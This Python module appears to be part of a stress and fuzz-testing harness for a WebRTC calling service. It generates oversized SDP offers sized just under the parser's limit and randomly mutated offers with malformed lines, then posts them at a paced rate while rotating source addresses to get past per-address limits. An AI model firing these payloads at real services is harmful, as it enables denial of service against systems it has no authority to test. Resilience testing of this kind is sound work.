"""Offers that cost more to read than to write, and right ones with pieces exchanged."""

import itertools
from collections import Counter
from collections.abc import Iterator

from attacks.target import OFFER, SDP, Report, Target, paced, requests


def _with(*lines: str) -> str:
    return OFFER + "".join(f"{line}\r\n" for line in lines)


MOST = 32_000
"""Characters; just under what is taken."""


def bombs() -> Iterator[tuple[str, str]]:
    """Names and offers: each whole, and cut to what isn't refused for its length."""
    for name, offer in _whole():
        yield name, offer
        if len(offer) > MOST:
            yield f"{name}, cut", offer[: offer.rindex("\r\n", 0, MOST) + 2]


def _whole() -> Iterator[tuple[str, str]]:
    yield (
        "rtcp-fb x rtpmap, wildcards",
        _with(
            *(
                line
                for n in range(1, 1_001)
                for line in (f"a=rtpmap:{n} x{n}/8000", "a=rtcp-fb:* nack")
            )
        ),
    )
    yield (
        "rtcp-fb after rtpmap",
        _with(
            *(f"a=rtpmap:{n} x{n}/8000" for n in range(1, 1_001)), *(["a=rtcp-fb:* nack"] * 1_000)
        ),
    )
    yield (
        "rtcp-fb x rtpmap, 62 kB",
        _with(
            *(
                line
                for n in range(1_500)
                for line in (f"a=rtpmap:{n % 128} x/80", f"a=rtcp-fb:* {n}")
            )
        ),
    )
    yield "rtcp-fb of one type", _with(*(f"a=rtcp-fb:111 nack x{n}" for n in range(2_000)))
    yield "ssrc", _with(*(f"a=ssrc:{n} cname:x" for n in range(1, 3_001)))
    yield "ssrc of one number", _with(*(f"a=ssrc:7 x{n}:y" for n in range(3_000)))
    yield "ssrc-group", _with(*(f"a=ssrc-group:FID {n} {n + 1}" for n in range(2_500)))
    yield "fmtp", _with(*(f"a=fmtp:111 x{n}={n}" for n in range(2_500)))
    yield "fmtp of one line", _with("a=fmtp:111 " + ";".join(f"x{n}={n}" for n in range(2_800)))
    yield "rtpmap", _with(*(f"a=rtpmap:111 opus/{n}" for n in range(2_500)))
    yield "formats", _with().replace("SAVPF 111", "SAVPF 111" + " 111" * 7_000)
    yield "extmap", _with(*(f"a=extmap:{n} urn:x:{n}" for n in range(2_500)))
    yield "fingerprints", _with(*(["a=fingerprint:sha-256 00:11:22:33"] * 1_500))
    yield (
        "candidates",
        _with(
            *(
                f"a=candidate:{n} 1 udp {n} 198.51.100.7 {1_024 + n} typ host"
                for n in range(1, 4_001)
            )
        ),
    )
    yield (
        "candidates of names",
        _with(
            *(f"a=candidate:{n} 1 udp {n} n{n}.local {1_024 + n} typ host" for n in range(1, 1_001))
        ),
    )
    yield "sections", _with(*(["m=video 0 UDP/TLS/RTP/SAVPF 96"] * 400))
    yield "groups", OFFER.replace("a=group:BUNDLE 0", "\r\n".join(["a=group:BUNDLE 0 1 2"] * 3_000))
    yield "blank lines", OFFER + "\r\n" * 30_000
    yield "one long line", _with("a=x:" + "y" * 31_000)
    yield "lines", _with(*(["a=x"] * 6_000))


OF_AN_ADDRESS = 10
PIECES = (
    "m=audio 9 UDP/TLS/RTP/SAVPF 111", "m=application 9 UDP/DTLS/SCTP webrtc-datachannel",
    "a=rtpmap:-1 opus/x", "a=candidate:1 1 udp 99999999999999 1.2.3.4 99999 typ host", "a=mid:",
    "a=fingerprint:sha-256", "a=setup:holdconn", "a=sctp-port:99999999999", "a=ssrc:x", "\x00",
    "a=max-message-size:-5", "a=rtcp-fb:* ", "a=fmtp:111", "a=group:BUNDLE", "a=ice-ufrag:",
    "a=extmap:0/x y", "c=IN IP9 ::::", "b=AS:x", "\U0001f600",
)  # fmt: skip


def mutated(target: Target) -> Iterator[str]:
    """Offers with lines taken out, doubled, exchanged and cut."""
    chance = target.random()
    while True:
        lines = OFFER.split("\r\n")
        for _ in range(chance.randint(1, 5)):
            at = chance.randrange(len(lines))
            match chance.randrange(5):
                case 0:
                    lines[at] = ""
                case 1:
                    lines.insert(at, chance.choice(lines))
                case 2:
                    lines.insert(at, chance.choice(PIECES))
                case 3:
                    lines[at] = lines[at][: chance.randint(0, 20)]
                case 4:
                    cut = chance.randint(0, len(lines[at]))
                    lines[at] = lines[at][:cut] + chr(chance.randrange(1, 0xD800)) + lines[at][cut:]
        yield "\r\n".join(lines)


async def offer_bombs(target: Target) -> Report:
    """Each bomb in turn, two a second; every tenth from a new address."""
    offers = [offer.encode() for _, offer in bombs()]
    return await _posted(target, itertools.cycle(offers), 2, timeout_s=60)


async def mutated_offers(target: Target) -> Report:
    """Thirty a second, 900 at most; every tenth from a new address."""
    return await _posted(target, (offer.encode() for offer in mutated(target)), 30, most=900)


async def _posted(
    target: Target,
    bodies: Iterator[bytes],
    rate: float,
    most: int = 1_000_000,
    timeout_s: float = 20,
) -> Report:
    """Offers that are taken are hung up."""
    outcomes: Counter[str] = Counter()
    slowest_ms = 0.0
    moments = paced(target.seconds, rate, most)
    for address in itertools.count():
        async with requests(target.moved(address), timeout_s) as http:
            sent = 0
            async for _ in moments:
                answer = await http.send("POST", "/calls", data=next(bodies), headers=SDP)
                if answer is not None and answer[0] == 201:
                    await http.send("DELETE", answer[1]["Location"])
                sent += 1
                if sent == OF_AN_ADDRESS:
                    break
        outcomes += http.outcomes
        slowest_ms = max(slowest_ms, http.slowest_ms)
        if sent < OF_AN_ADDRESS:
            break
    return {**outcomes, "slowest_ms": round(slowest_ms)}
